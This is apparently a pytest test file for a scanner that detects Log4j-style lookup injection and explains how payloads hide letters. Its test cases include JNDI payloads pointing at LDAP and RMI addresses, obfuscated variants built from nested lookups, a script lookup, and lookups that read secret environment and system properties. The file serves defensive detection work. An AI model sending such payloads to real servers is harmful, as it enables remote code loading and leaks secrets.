from __future__ import annotations

import pytest
from gatelens.languages.lookups.evaluation import value
from gatelens.languages.lookups.grammar import lookups
from gatelens.languages.lookups.injection import Names, explain, injection
from hypothesis import given
from hypothesis import strategies as st

NAMES = Names(frozenset({"ldap", "rmi", "dns"}), frozenset({"script"}), frozenset({"java:"}))


@pytest.mark.parametrize(
    ("content", "becomes"),
    [
        ("lower:J", "j"),
        ("upper:j", "J"),
        ("::-j", "j"),
        ("env:NOT_THERE:-j", "j"),
        ("date:'j'", "j"),
        ("base64decoder:ag==", "j"),
        ("env:HOME", ""),
        ("base64decoder:a", ""),
    ],
)
def test_a_lookup_becomes_what_its_prefix_makes_of_its_key(content: str, becomes: str) -> None:
    assert value(content) == becomes


def test_inner_lookups_are_replaced_before_outer_ones() -> None:
    found = list(lookups("a ${${lower:J}ndi:x} b", value))
    assert [(each.content, each.hides, each.closed) for each in found] == [
        ("lower:J", False, True),
        ("jndi:x", True, True),
    ]


def test_a_lookup_that_the_text_ends_within_is_open() -> None:
    assert [each.closed for each in lookups("${jndi:ldap://files.example", value)] == [False]


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("see ${jndi:ldap://files.example/a} here", "looks up a name by JNDI"),
        ("${j${lower:ND}i:rmi://files.example}", "looks up a name by JNDI, spelled with lookups in lookups"),
        ("${j${::-n}di:x}", "hides letters in the defaults of lookups without a name"),
        ("${script:javascript:7}", "runs or fetches what a lookup names"),
        ("${java:version}", "asks a lookup about the server"),
        ("{jndi:ldap://files.example/a}", "names an address by JNDI"),
        ("${lower:${upper:jndi}}", "spells JNDI with lookups"),
    ],
)
def test_a_lookup_that_reaches_out_is_an_injection(text: str, why: str) -> None:
    found = injection(text, NAMES)
    assert found is not None
    assert found.explanation == why


@pytest.mark.parametrize(
    "text",
    [
        "${env:HOME}",
        "${HOST:-${FALLBACK:-localhost}}",
        "the string ${jndi:ldap://...} is blocked at our edge",
        "${jndi:java:comp/env/name}",
        "the version is in ${java:version} of each message",
        "jndi:ldap is a scheme",
    ],
)
def test_a_lookup_of_a_configuration_is_none(text: str) -> None:
    assert injection(text, NAMES) is None


def test_the_explanation_shows_how_letters_are_hidden() -> None:
    shown = explain("${j${lower:ND}i:rmi://files.example}", NAMES)
    assert shown is not None
    (lookup,) = shown.attack.children
    assert lookup.piece == "jndi:rmi://files.example"
    assert [child.piece for child in lookup.children] == ["lower:ND"]
    assert explain("${env:HOME}", NAMES) is None


@given(st.text(alphabet="${}:-jndilowerup/ ", max_size=300))
def test_no_text_raises(text: str) -> None:
    injection(text, NAMES)
    explain(text, NAMES)


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("${env:SHOP_SECRET_KEY}", True),
        (" ${env:A} ${sys:shop.password} ", True),
        ("${env:HOME}", False),
        ("key ${env:SHOP_SECRET_KEY}", False),
        ("${env:SHOP_SECRET_KEY", False),
    ],
)
def test_a_lookup_of_a_secret_is_told_alone_in_a_line(text: str, told: bool) -> None:
    names = Names(frozenset(), frozenset(), frozenset(), frozenset({"secret", "password"}))
    assert bool(injection(text, names, is_line=True)) == told
    assert injection(text, names) is None
